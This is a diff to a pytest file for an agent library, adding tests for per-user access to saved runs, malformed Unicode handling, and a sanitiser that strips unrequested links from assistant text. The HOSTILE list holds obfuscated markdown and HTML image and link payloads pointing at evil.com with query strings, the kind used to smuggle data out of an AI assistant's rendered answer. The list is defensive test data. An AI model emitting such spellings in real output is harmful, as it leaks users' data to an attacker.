@@ -4,6 +4,7 @@ import json
 import threading
 
 import pytest
+from markdown_it import MarkdownIt
 
 from erya.agents import (
     Agent,
@@ -17,7 +18,7 @@ from erya.agents import (
     without_links,
 )
 from erya.assistant import Assistant
-from erya.errors import ModelError, NotFoundError
+from erya.errors import ModelError, NotFoundError, UsageError
 from erya.models import Finished, TextDelta
 from erya.records import Principal, ToolCall, Usage
 from erya.stores import Bases
@@ -276,7 +277,7 @@ def test_runs_are_their_principals(tmp_path):
         ("<img src=https://evil.example> and <a href='//evil.example'>a</a>", " and a"),
         ("[x][1]\n\n[1]: https://evil.example", "[x][1]\n\n"),
         ("Run javascript:alert(1) or www.evil.example/a", "Run (…)) or (…)"),
-        ("As said [1](see below), 5 // 2 is 2", "As said [1](see below), 5 // 2 is 2"),
+        ("As said [1](see below), 5 // 2 is 2", "As said [1] (see below), 5 // 2 is 2"),
     ],
 )  # fmt: skip
 def test_links_that_nobody_asked_for_are_left_out(text, shown):
@@ -317,3 +318,88 @@ def test_a_result_that_is_too_long_by_itself_is_cut_to_fit():
         m.parts[0].text for m in agent.model.requests[-1].messages if m.role == "tool"
     ]
     assert 400 < len(text) < 4_000
+
+
+def test_nobody_has_the_runs_of_others(tmp_path):
+    runs = AgentRuns(tmp_path)
+    ada, bob, nobody = Principal(user="ada"), Principal(user="bob"), Principal()
+    agent = agent_of("Hello.")
+    run = finished(Runner(agent=agent, principal=ada).run(start_run(agent, "x")))
+    runs.save(run, principal=ada, options={})
+    assert runs.all(principal=nobody) == []
+    for principal, run_id in ((nobody, run.id), (ada, ""), (bob, run.id)):
+        with pytest.raises(NotFoundError):
+            runs.get(run_id, principal=principal)
+    with pytest.raises(NotFoundError):
+        runs.save(run, principal=bob, options={})
+    with pytest.raises(UsageError, match="name"):
+        runs.save(run, principal=nobody, options={})
+
+
+def test_odd_signs_end_no_run(tmp_path):
+    runs = AgentRuns(tmp_path)
+
+    def odd() -> str:
+        """Return half a sign."""
+        return "caf\udce9"
+
+    agent = agent_of(
+        calls(("odd", {"\ud800": 1})),
+        calls(("odd", {})),
+        "Done \ud83d.",
+        tools=[FunctionTool.of(odd)],
+    )
+    runner = Runner(
+        agent=agent, principal=OWNER,
+        save=lambda run: runs.save(run, principal=OWNER, options={}),
+    )  # fmt: skip
+    run, _ = ran(runner, task="half \ud800")
+    assert runs.get(run.id, principal=OWNER).run.reason == "answered"
+    assert "caf?" in run.messages[5].parts[0].text
+
+
+HOSTILE = [
+    "![a[b]c](https:&#47;&#47;evil.com/p.png?q=S)",
+    "![a[b]c](https:\\/\\/evil.com/p.png)",
+    "!<a>[x](https:&#47;&#47;evil.com/p.png)",
+    "> [x]: https:&#47;&#47;evil.com/p.png\n\n![x]",
+    "[x\ny]: https:&#47;&#47;evil.com\n\n![x\ny]",
+    '<i<a>mg src="https:&#47;&#47;evil.com/x">',
+    "[1](https&#58;&#47;&#47;evil&#46;com&#47;?q=S)",
+    "<input type=image src=https:/evil.com/x>",
+    "<https:/evil.com/x>",
+    "https://evil.com\\@good.example/?q=S",
+    "&amp;#60;img src=//evil.com/x&amp;#62;",
+    "![a\nb](https://evil.com/x.png)",
+    "[a](evil.com)",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_spelling_gets_a_picture_or_a_link_through(text):
+    shown = without_links(text, allowed_in="See https://good.example")
+    page = MarkdownIt("commonmark").render(shown)
+    assert "evil.com" not in page
+    assert "<img" not in page
+    assert "<a " not in page
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Staff with < a year of service get 10 days [1]. All others get 25 days [2].",
+        "若入职时间< 一年，有25天",
+        "7//2 is 3; the file is in /srv//data/x.",
+        "and//or, Data:25 days",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+    ],
+)
+def test_honest_text_stays(text):
+    assert without_links(text, allowed_in="") == text
+
+
+@pytest.mark.parametrize(
+    "piece", ["<", "<" + " " * 9, "![", "[", "<a", "[a](", "&amp;", "]:"]
+)
+def test_links_are_looked_for_in_linear_time(piece):
+    without_links(piece * 20_000, allowed_in="")  # minutes, where it is not
